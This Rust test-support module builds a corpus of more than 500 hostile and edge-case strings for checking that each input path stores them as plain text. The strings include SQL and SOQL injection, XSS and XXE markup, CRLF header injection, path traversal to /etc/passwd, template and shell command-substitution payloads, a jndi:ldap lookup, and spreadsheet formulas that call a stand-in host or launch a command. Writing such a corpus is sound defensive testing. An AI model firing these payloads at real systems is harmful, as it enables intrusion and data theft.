//! Strings that mean something to a machine they might reach: a database, a query, a page, a
//! header, a file system, a spreadsheet, a log. Here they are texts, and every door must hand them
//! on as that. The doors' own tests take them from here.

use std::collections::BTreeSet;

const SQL: &[&str] = &[
    "'",
    "''",
    "\"",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\" OR \"\"=\"",
    "'; DROP TABLE org_account; --",
    "'); DELETE FROM org_user; --",
    "') UNION SELECT id, username, NULL FROM org_user --",
    "' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    "'; SELECT pg_sleep(10); --",
    "'||(SELECT max(username) FROM org_user)||'",
    "1; ATTACH DATABASE '/tmp/zqx' AS zqx",
    "COPY org_user TO '/tmp/zqx'",
    "E'\\047 OR TRUE --",
    "$zqx$ SELECT 1 $zqx$",
    "x' COLLATE folded --",
    "/* ",
    "*/ OR 1=1 /*",
    "-- ",
    "#",
    "`",
    "$1",
    "?1",
    ":id",
    "@id",
    "0x27",
    "CHAR(39)",
    "\\'",
    "\\\\'",
    "\\",
    "NULL",
    "folded(name)",
];

const SOQL: &[&str] = &[
    "Name FROM User WHERE Name != '' --",
    "x' OR Name LIKE '%",
    "' ORDER BY Name LIMIT 1 ALL ROWS",
    "') OR (Name != '",
    "Id) FROM Account (SELECT Id",
    "(SELECT Name FROM Contacts)",
    "TYPEOF Owner WHEN User THEN Id END",
    "FIELDS(ALL)",
    "LAST_N_DAYS:99999999999999999999",
    "WITH SYSTEM_MODE",
    "Owner.Profile.Name",
    "Id IN (SELECT AccountId FROM Contact)",
    "\\u0027 OR Id != \\u0027",
    "\\n\\r\\t\\b\\f\\q",
    "__proto__.Name",
    "Name ASC NULLS LAST, Id",
    "} RETURNING User(Id, Name, Email",
    "x} IN ALL FIELDS RETURNING Account(Id WHERE Name != ''",
    "{",
    "}",
    "AND OR NOT",
    "*",
    "?",
    "a* AND NOT b?",
    "((((((((",
    "))))))))",
    "& | ! { } [ ] ( ) ^ ~ * : \\ \" ' + -",
];

const MARKUP: &[&str] = &[
    "<script>zqx(1)</script>",
    "</script><script>zqx(1)</script>",
    "<img src=x onerror=zqx(1)>",
    "\"><svg onload=zqx(1)>",
    "'><zqx>",
    "\" onmouseover=\"zqx(1)",
    "' onfocus='zqx(1)' autofocus='",
    "javascript:zqx(1)",
    "JaVaScRiPt:zqx(1)//",
    "data:text/html,<script>zqx(1)</script>",
    "<a href=\"javascript:zqx(1)\">x</a>",
    "</title><zqx>",
    "</textarea><zqx>",
    "</option></select><zqx>",
    "</style><zqx>",
    "<!--",
    "--><zqx>",
    "<![CDATA[<zqx>]]>",
    "]]>",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "&lt;zqx&gt;",
    "&amp;amp;",
    "&#0;",
    "&#x27;",
    "&zqx;",
    "&",
    "<",
    "</Name><Id>001000000099999AAA</Id><Name>",
    "</soapenv:Envelope>",
    "<iframe srcdoc='<script>zqx(1)</script>'>",
    "<base href=//zqx.example>",
    "<math><mi xlink:href=\"javascript:zqx(1)\">",
    "＜script＞zqx(1)＜/script＞",
];

const LINES: &[&str] = &[
    "a\r\nSet-Cookie: zqx=1",
    "a\r\n\r\n<zqx>",
    "a\nb",
    "a\rb",
    "%0d%0aSet-Cookie:%20zqx=1",
    "%00",
    "a\u{560d}\u{560a}Set-Cookie: zqx=1",
    "a\u{2028}b",
    "a\u{2029}b",
    "a\u{85}b",
    "a\u{b}b",
    "a\u{c}b",
    "a\tb",
    "a\u{0}b",
    "a\u{0}' OR 1=1 --",
    "\u{1b}[31mzqx\u{1b}[0m",
    "\u{1b}]0;zqx\u{7}",
    "2026-01-01T00:00:00Z ERROR zqx",
];

const PATHS: &[&str] = &[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "%2e%2e%2fetc%2fpasswd",
    "..%252f..%252fetc/passwd",
    "/etc/passwd",
    "C:\\boot.ini",
    "\\\\host\\share\\zqx",
    "file:///etc/passwd",
    "//zqx.example/",
    "https://zqx.example/",
    "/\\zqx.example",
    "https:zqx.example",
    "a/b/c",
    ".",
    "..",
    "CON",
    "NUL.txt",
    "zqx.txt\u{0}.jpg",
    ".htaccess",
    "zqx\"; filename=\"other.exe",
    "x; y=z",
    "UTF-8''%0d%0azqx",
];

const WILDCARDS: &[&str] = &[
    "%",
    "_",
    "%%%%",
    "_%_%",
    "\\%",
    "\\_",
    "a%b_c",
    "100%",
    "[a-z]%",
    "[^x]",
    "^x$",
    ".*",
    "(a+)+$",
    "{0}",
    "{}",
    "{:?}",
    "%s%s%s%n",
    "%x%x",
    "%(zqx)s",
    "%1$s",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% zqx %}",
    "@{one.Id}",
    "${jndi:ldap://zqx.example/x}",
    "{!$User.Id}",
    "{!SESSION_ID}",
    "$(id)",
    "`id`",
    "| id",
    "&& id",
    "; id",
    "*)(uid=*))(|(uid=*",
    "{\"$ne\":null}",
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "undefined",
    "null",
    "true",
    "NaN",
    "-1",
    "1e309",
    "0",
    "1/0",
    "#N/A",
    "{\"a\":",
    "[]",
    "\"a\",\"b\"",
    "a,b",
    "a;b",
    "a|b",
    "a^b",
];

const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{0}=1+1",
    " =1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://zqx.example\",\"x\")",
    "=IMPORTXML(\"http://zqx.example\",\"//a\")",
    "＝1+1",
    "＋1",
    "\"=1+1\"",
    ",=1+1",
    ";=1+1",
    "a\",=1+1,\"b",
];

const LETTERS: &[&str] = &[
    "\u{202e}txt.exe",
    "\u{2066}a\u{2069}b",
    "\u{200b}",
    "a\u{200d}b",
    "\u{feff}a",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}",
    "\u{1F600}",
    "\u{1F468}\u{200d}\u{1F469}\u{200d}\u{1F467}",
    "\u{10FFFF}",
    "\u{FFFE}\u{FFFF}",
    "\u{FFFD}",
    "\u{E000}",
    "Straße",
    "STRASSE",
    "ﬀ",
    "ǅ",
    "ΟΔΟΣ",
    "οδος",
    "Müller",
    "MÜLLER",
    "\u{fdfa}",
    "ａｄｍｉｎ",
    "аdmin",
    "日本語",
    "عربى",
    "\u{a0}a\u{a0}",
    "\u{3000}a",
];

/// Signs that look like a quote, or become one when somebody converts letters.
const QUOTES: &[char] = &[
    'ʼ', '′', '＇', '`', '´', '‘', '’', '‛', '＂', '“', '\u{2bb}',
];

/// What ends the text that a careless program is in.
const ENDS: &[&str] = &[
    "x'", "x\"", "x')", "x\\'", "x}", "x>", "x\n", "x\u{0}", "x%", "x*/",
];

/// Each string once, at least 500 of them.
pub(crate) fn strings() -> Vec<String> {
    let groups = [
        SQL, SOQL, MARKUP, LINES, PATHS, WILDCARDS, FORMULAS, LETTERS,
    ];
    let written: Vec<&str> = groups.concat();
    let mut all: Vec<String> = written.iter().map(|text| (*text).to_owned()).collect();
    let with_quote = SQL.iter().chain(SOQL).filter(|text| text.contains('\''));
    for (number, text) in with_quote.enumerate() {
        for quote in QUOTES.iter().cycle().skip(number).take(3) {
            all.push(text.replace('\'', &quote.to_string()));
        }
    }
    for (number, end) in ENDS.iter().enumerate() {
        let rest = written.iter().skip(number).step_by(ENDS.len());
        all.extend(rest.map(|text| format!("{end}{text}")));
    }
    for code in (1..32).chain(127..=132) {
        all.extend(char::from_u32(code).map(|control| format!("a{control}b")));
    }
    all.extend(long());
    let mut seen = BTreeSet::new();
    all.retain(|text| seen.insert(text.clone()));
    assert!(all.len() >= 500, "{}", all.len());
    all
}

/// 64 kB of one thing, and 10,000 deep.
fn long() -> Vec<String> {
    const SIZE: usize = 64 * 1024;
    let of = |text: &str| text.repeat(SIZE / text.len());
    let deep = |open: &str, close: &str| open.repeat(10_000) + "x" + &close.repeat(10_000);
    vec![
        of("A"),
        of("'"),
        of("%"),
        of("\\"),
        of("<"),
        of("é"),
        of("\r\n"),
        deep("(", ")"),
        deep("{", "}"),
        deep("<a>", "</a>"),
        deep("[", "]"),
    ]
}

/// The text as a field keeps it: without NUL, and without white space at its ends.
pub(crate) fn kept(text: &str) -> String {
    text.replace('\0', "").trim().to_owned()
}

/// Strings that a name of at most `chars_max` characters can be, each another one when case is
/// disregarded, and none empty.
pub(crate) fn names(chars_max: usize) -> Vec<String> {
    let mut seen = BTreeSet::new();
    let mut names = strings();
    names.retain(|text| {
        let kept = kept(text);
        let fits = (1..=chars_max).contains(&kept.chars().count());
        fits && seen.insert(offhook_org::fold::fold(&kept))
    });
    names
}

/// A text between the quotes of a literal.
pub(crate) fn literal(text: &str) -> String {
    let mut literal = String::with_capacity(text.len() + 2);
    for letter in text.chars() {
        match letter {
            '\'' | '\\' => literal.extend(['\\', letter]),
            '\0' => {}
            _ => literal.push(letter),
        }
    }
    literal
}
